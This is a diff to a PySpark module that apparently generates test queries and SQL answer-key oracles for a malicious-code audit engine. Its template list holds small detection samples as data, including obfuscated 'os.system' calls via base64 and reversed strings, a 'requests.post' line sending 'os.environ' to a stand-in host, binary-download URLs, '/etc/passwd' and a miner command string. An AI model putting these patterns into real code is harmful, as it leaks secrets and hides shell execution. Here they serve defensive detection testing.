@@ -1,19 +1,142 @@
-"""The queries over the engine's own operators, with their SQL."""
+"""Queries over source code made from the tables by templates, and over their text columns, with the SQL that gives the same."""
 
 from __future__ import annotations
 
 from collections.abc import Callable
 
 from pyspark.sql import DataFrame, SparkSession
+from pyspark.sql import functions as F
 
+from larkspur.functions import text as T
+from larkspur.operators import rules as R
+
+_INTS = ", ".join(str(i) for i in range(21))
+_HEX = ", ".join(hex(i) for i in range(11))
+#: A source text and what the audit has to find in it: rule, confidence, label.
+TEMPLATES: list[tuple[str, list[tuple[str, int, str | None]]]] = [
+    ("x = 1\n", []),
+    ("import os\nos.getenv('API_KEY')\n", [("EnvAccess", 3, "API_KEY")]),
+    ("import socket\n", [("SocketImport", 2, "socket")]),
+    ("import pickle as p\n", [("PickleImport", 2, "pickle")]),
+    ("import os as o\no.system('ls')\n", [("ShellExec", 3, "os.system")]),
+    ("import os, base64\nos.system(base64.b64decode('bHMgLWxh').decode())\n", [("ObfuscatedShellExec", 5, "os.system"), ("Base64String", 3, "ls -la")]),
+    ("getattr(__import__('o' + 's'), 'metsys'[::-1])('id')\n", [("DunderImport", 3, '__import__("os")'), ("ObfuscatedShellExec", 4, "os.system")]),
+    ("# Obfuscated by me\n", [("SuspiciousComment", 5, "obfuscated by")]),
+    ("def reverse_shell(payload):\n    pass\n", [("SuspiciousFunctionName", 4, "reverse_shell"), ("SuspiciousParameterName", 2, "payload")]),
+    ("open('a.exe', 'w')\n", [("SuspiciousWrite", 4, "a.exe")]),
+    ("import requests\nrequests.get('https://e.com/a.exe')\n", [("BinaryDownload", 3, "https://e.com/a.exe")]),
+    ("import os, requests\nrequests.post('http://e.com', data=os.environ)\n", [("DataExfiltration", 3, "requests.post")]),
+    (f"x = [{_INTS}]\n", [("IntLiterals", 3, None)]),
+    (f"x = [{_HEX}]\n", [("HexedLiterals", 3, None)]),
+    ("p = '/etc/passwd'\n", [("PathEnumeration", 3, "/etc/passwd")]),
+    ("import os\nos.dup2(1, 2)\nos.popen('x')\n", [("SuspiciousCall", 4, "os.dup2"), ("ShellExec", 3, "os.popen")]),
+    ("eval('1 + 1')\n", [("CodeExec", 3, "eval")]),
+    ("import platform\nplatform.node()\n", [("OSFingerprint", 3, "platform.node")]),
+    ("import os\nos.system('curl x')\n", [("DangerousExec", 4, "os.system")]),
+    ("globals()['__builtins__']('x')\n", [("BuiltinsVariable", 4, "__builtins__")]),
+]
+_SETUP = len(TEMPLATES)  # one more template: an execution in a setup.py
+_SETUP_SOURCE = "import os\nos.system('ls')\n"
+
+
+def sources(spark: SparkSession, sf_dir: str) -> DataFrame:
+    """One source file per customer, by its key."""
+    k = F.col("c_custkey") % (_SETUP + 1)
+    texts = F.array(*[F.lit(t) for t, _ in TEMPLATES], F.lit(_SETUP_SOURCE))
+    return spark.read.parquet(f"{sf_dir}/customer.parquet").select(
+        F.col("c_custkey").cast("string").alias("file_id"),
+        F.concat(F.lit("pkg"), F.col("c_nationkey").cast("string"), F.when(k == _SETUP, "/setup.py").otherwise("/a.py")).alias("file_path"),
+        F.get(texts, k.cast("int")).alias("content"),
+    )
+
+
+def _sql_text(x: str | None) -> str:
+    return "NULL" if x is None else "'" + x.replace("'", "''") + "'"
+
+
+_ROWS = [(i, R.CODE[rule], c, label) for i, (_, found) in enumerate(TEMPLATES) for rule, c, label in found] + [(_SETUP, R.CODE["ShellExec"], 4, "os.system")]
+_WANTED = "SELECT CAST(c_custkey AS VARCHAR) AS file_id, 'pkg' || c_nationkey AS archive, w.rule, w.confidence, w.label FROM customer JOIN (VALUES " + ", ".join(
+    f"({i}, '{code}', {c}, {_sql_text(label)})" for i, code, c, label in _ROWS
+) + f") AS w(k, rule, confidence, label) ON c_custkey % {_SETUP + 1} = w.k"
+
+
+def found(spark: SparkSession, sf_dir: str) -> DataFrame:
+    return R.audit(sources(spark, sf_dir)).select("file_id", F.regexp_extract("file_path", "^[^/]*", 0).alias("archive"), "rule", "confidence", "label")
+
+
+def _documents(spark: SparkSession, sf_dir: str) -> DataFrame:
+    return spark.read.parquet(f"{sf_dir}/documents.parquet").select("doc_id", "text")
+
+
+def line_stats(spark: SparkSession, sf_dir: str) -> DataFrame:
+    lines = T.lines(F.col("text"))
+    return _documents(spark, sf_dir).where("text IS NOT NULL").select(
+        "doc_id",
+        F.size(lines).cast("long").alias("num_lines"),
+        F.size(F.filter(lines, lambda x: F.trim(x) != "")).cast("long").alias("num_nonempty_lines"),
+        F.size(F.filter(lines, lambda x: F.ltrim(x).startswith("#"))).cast("long").alias("num_comment_lines"),
+        F.octet_length("text").cast("long").alias("num_bytes"),
+    )
+
+
+_LINES = "SELECT doc_id, CASE WHEN right(text, 1) = chr(10) THEN string_split_regex(text, '\\r?\\n')[:-2] WHEN text = '' THEN [] ELSE string_split_regex(text, '\\r?\\n') END AS l, text FROM documents WHERE text IS NOT NULL"
+
+TOKENS = ["QUJDREVGR0g=", "not base64!", "c_custkey", "abcdefgh", "https://e.com/x.exe?y=1#z", "C:\\\\temp\\\\x.dll", "1234567890:" + "a" * 35, "\\x41\\x42\\x43\\x44", "xmrig -o pool", ""]
 
-def entry(spark: SparkSession, sf_dir: str) -> DataFrame:
-    raise NotImplementedError
+
+def token_tests(spark: SparkSession, sf_dir: str) -> DataFrame:
+    t = F.col("t")
+    rows = spark.read.parquet(f"{sf_dir}/orders.parquet").select("o_orderkey", F.get(F.array(*map(F.lit, TOKENS)), (F.col("o_orderkey") % len(TOKENS)).cast("int")).alias("t"))
+    return rows.select("o_orderkey", T.is_base64(t).alias("base64"), T.bare_url(t).alias("bare"), T.telegram_token(t).alias("token"), T.hex_escapes(t).alias("hexed"), T.preview(t).alias("preview"), F.sha2(t, 256).alias("digest"), T.ends_with_any(T.bare_url(t), [".exe", ".dll"]).alias("binary_name"))
+
+
+_TOKEN_SQL = "SELECT o_orderkey, length(trim(t)) >= 8 AND length(trim(t)) % 4 = 0 AND regexp_matches(trim(t), '^[A-Za-z0-9+/_-]+={0,2}$') AS \"base64\", regexp_replace(t, '[?#].*$', '') AS bare, regexp_matches(t, '^[0-9]{8,10}:[A-Za-z0-9_-]{35}$') AS token, regexp_matches(t, '^(\\\\x[0-9a-fA-F]{2}){4,}$') OR (length(t) > 100 AND regexp_matches(t, '^([0-9a-fA-F]{2})+$')) AS hexed, CASE WHEN length(t) > 20 THEN left(t, 20) || '...' ELSE t END AS preview, sha256(t) AS digest, ends_with(regexp_replace(lower(t), '[?#].*$', ''), '.exe') OR ends_with(regexp_replace(lower(t), '[?#].*$', ''), '.dll') AS binary_name FROM (SELECT o_orderkey, ([" + ", ".join(map(_sql_text, TOKENS)) + f"])[1 + o_orderkey % {len(TOKENS)}] AS t FROM orders)"
+
+
+def text_entropy(spark: SparkSession, sf_dir: str) -> DataFrame:
+    return _documents(spark, sf_dir).where("text IS NOT NULL").select("doc_id", F.round(T.entropy(F.col("text")), 6).alias("entropy"))
+
+
+def missing(spark: SparkSession, sf_dir: str) -> DataFrame:
+    return sources(spark, sf_dir).select("file_id").join(found(spark, sf_dir).select("file_id"), "file_id", "left_anti")
+
+
+def archive_counts(spark: SparkSession, sf_dir: str) -> DataFrame:
+    """Findings by archive; an archive without any counts 0."""
+    every = sources(spark, sf_dir).select(F.regexp_extract("file_path", "^[^/]*", 0).alias("archive")).distinct()
+    n = found(spark, sf_dir).groupBy("archive").agg(F.count("*").alias("n"))
+    return every.join(n, "archive", "left").select("archive", F.coalesce("n", F.lit(0).cast("long")).alias("n"))
+
+
+def _counts(by: str) -> Callable[[SparkSession, str], DataFrame]:
+    return lambda spark, sf_dir: found(spark, sf_dir).groupBy(by).agg(F.count("*").alias("n"))
+
+
+_LEAST, _SOME = 4, [R.CODE[x] for x in ("ShellExec", "EnvAccess", "DunderImport")]
+_ALL: dict[str, tuple[Callable[[SparkSession, str], DataFrame], str]] = {
+    "findings": (found, _WANTED),
+    "rule_counts": (_counts("rule"), f"SELECT rule, count(*) AS n FROM ({_WANTED}) GROUP BY rule"),
+    "confidence_counts": (_counts("confidence"), f"SELECT confidence, count(*) AS n FROM ({_WANTED}) GROUP BY confidence"),
+    "archive_counts": (archive_counts, f"SELECT archive, count(rule) AS n FROM (SELECT DISTINCT 'pkg' || c_nationkey AS archive FROM customer) LEFT JOIN ({_WANTED}) USING (archive) GROUP BY archive"),
+    "missing_files": (missing, f"SELECT CAST(c_custkey AS VARCHAR) AS file_id FROM customer WHERE CAST(c_custkey AS VARCHAR) NOT IN (SELECT file_id FROM ({_WANTED}))"),
+    "min_confidence": (lambda s, d: R.chosen(found(s, d), _LEAST), f"SELECT * FROM ({_WANTED}) WHERE confidence >= {_LEAST}"),
+    "include_codes": (lambda s, d: R.chosen(found(s, d), 1, _SOME), f"SELECT * FROM ({_WANTED}) WHERE rule IN ({', '.join(map(_sql_text, _SOME))})"),
+    "exclude_codes": (lambda s, d: R.chosen(found(s, d), 1, exclude=_SOME), f"SELECT * FROM ({_WANTED}) WHERE rule NOT IN ({', '.join(map(_sql_text, _SOME))})"),
+    "topk_rules": (lambda s, d: _counts("rule")(s, d).orderBy(F.desc("n"), "rule").limit(5), f"SELECT rule, count(*) AS n FROM ({_WANTED}) GROUP BY rule ORDER BY n DESC, rule LIMIT 5"),
+    "line_stats": (line_stats, f"SELECT doc_id, len(l) AS num_lines, len(list_filter(l, lambda x: trim(x) <> '')) AS num_nonempty_lines, len(list_filter(l, lambda x: starts_with(ltrim(x), '#'))) AS num_comment_lines, CAST(strlen(text) AS BIGINT) AS num_bytes FROM ({_LINES})"),
+    "text_entropy": (text_entropy, "SELECT doc_id, round(coalesce(list_entropy(string_split(text, '')), 0), 6) AS entropy FROM documents WHERE text IS NOT NULL"),
+    "token_tests": (token_tests, _TOKEN_SQL),
+}
 
 
 def queries() -> dict[str, Callable[[SparkSession, str], DataFrame]]:
-    return {}
+    return {name: query for name, (query, _) in _ALL.items()}
 
 
 def oracle_sql() -> dict[str, str]:
-    return {}
+    return {name: sql for name, (_, sql) in _ALL.items()}
+
+
+def entry(spark: SparkSession, sf_dir: str) -> DataFrame:
+    """Findings by rule and confidence."""
+    return found(spark, sf_dir).groupBy("rule", "confidence").agg(F.count("*").alias("n")).orderBy("rule", "confidence")
